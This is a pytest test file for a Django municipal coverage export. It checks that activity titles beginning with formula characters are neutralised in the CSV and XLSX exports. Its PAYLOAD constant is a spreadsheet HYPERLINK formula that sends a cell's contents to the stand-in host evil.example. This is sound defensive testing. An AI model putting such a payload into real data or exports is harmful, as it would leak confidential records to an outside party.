"""F1: text typed by one municipality's advisor cannot run as a formula in the coverage export that the
coordinator, police and OM open with every municipality's data."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&B2,"klik")'


@pytest.fixture
def hostile_activity(plan, execution_plans, make_activity, figures, users):
    return make_activity(execution_plans["GM0865"], actor=users["advisor"], owner=users["advisor"], title=PAYLOAD,
                         wijken=[figures["GM0865"]["wijk"]], planned_budget_cents=123_456)


@pytest.mark.parametrize("role", ["coordinator", "police", "prosecutor"])
def test_coverage_csv_neutralises_a_formula_title(client, users, hostile_activity, role):
    client.force_login(users[role])
    response = client.get(reverse("web:coverage_export", kwargs={"fmt": "csv"}) + "?periode=2023")
    assert response.status_code == 200
    text = response.content.decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + PAYLOAD in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c.startswith("-") and not c.lstrip("-").isdigit())]
    assert "123456" in cells  # numbers stay numbers


def test_coverage_xlsx_has_no_formula(client, users, hostile_activity):
    client.force_login(users["coordinator"])
    response = client.get(reverse("web:coverage_export", kwargs={"fmt": "xlsx"}) + "?periode=2023")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.coordinate for c in cells if isinstance(c.value, str) and c.value.startswith("=")]
    assert "'" + PAYLOAD in [c.value for c in cells]
    assert 123_456 in [c.value for c in cells]
